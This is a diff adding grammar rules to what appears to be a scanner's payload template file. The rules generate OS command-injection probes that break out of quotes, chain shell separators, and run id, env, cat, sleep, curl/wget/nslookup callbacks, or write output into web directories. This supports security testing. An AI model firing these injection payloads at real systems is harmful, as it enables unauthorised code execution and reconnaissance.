@@ -478,4 +478,37 @@ rce/powershell 2: ‹psh›
   §(‹psh›)
   '; ‹psh›; '
   "; ‹psh› #
+sh.word: ‹*3-12›
+  ‹~3-12›
+  §((‹n›‹+¦*›‹n›))
+  "‹*3-9›"
+  '‹*3-9›'
+sh.before: 3× ‹anyword›
+  ‹anyword›‹'¦"¦´¦)¦¦\'›
+  ∅
+sh.mark = ; | || & && |& \n
+sh.sep: 3× ‹sh.mark›
+  2× ‹'¦"›‹sh.mark›
+  ⏎
+  ␍⏎
+  ‹¦ ›‹sh.mark›␠
+sh.after: 3× ∅
+  ‹¦ ›‹sh.mark›
+  ␠#‹¦‹*1-6››
+  ‹¦ ›‹sh.mark›‹¦ ›‹'¦"›
+  ␠2>&1
+  ‹'¦"›
+  ␠||
+  ␠#'
+  ‹;¦&&¦|› ‹echo¦true¦exit› ‹*3-6›
+sh.run: 4× echo ‹sh.word›
+  3× echo ‹sh.word› ‹sh.word›
+  ‹expr ‹n› + ‹n›¦printf ‹sh.word›¦set /a ‹n›+‹n›¦echo %‹^2-9›%¦echo §‹^2-9›¦ver¦uname¦hostname¦date¦pwd¦env¦set¦dir¦ls¦id¦who¦w¦ps¦df¦arch¦ipconfig¦ifconfig¦netstat -an¦cat ‹~2-8›¦type ‹~2-8››
+  ‹ping -‹c¦n¦w› ‹#1-30› ‹127.0.0.1¦localhost¦‹ip››¦timeout ‹#1-30›¦sleep ‹#1-30›¦start-sleep -s ‹#1-30›¦usleep ‹#1000-9999999››
+  ‹nslookup¦curl¦wget -q¦ping¦host› ‹*6-24›.‹host›
+rce/proof 6: 6× ‹sh.before›‹sh.sep›‹sh.run›‹sh.after›
+  ‹sh.before›‹´‹sh.run›´¦§(‹sh.run›)¦<(‹sh.run›)›
+  ‹sh.before›‹sh.sep›‹sh.run›‹sh.mark›‹sh.run›‹sh.after›
+  ‹n›´‹ls¦ps¦id¦cat ‹~2-6››>/‹~2-6›/‹~2-8›‹.txt¦.html¦›´
+  ‹n›‹;¦|¦&›‹sh.run›>‹/tmp/¦/var/www/¦/web/¦../›‹~2-8›‹.txt¦.html¦›‹¦ #›
 `
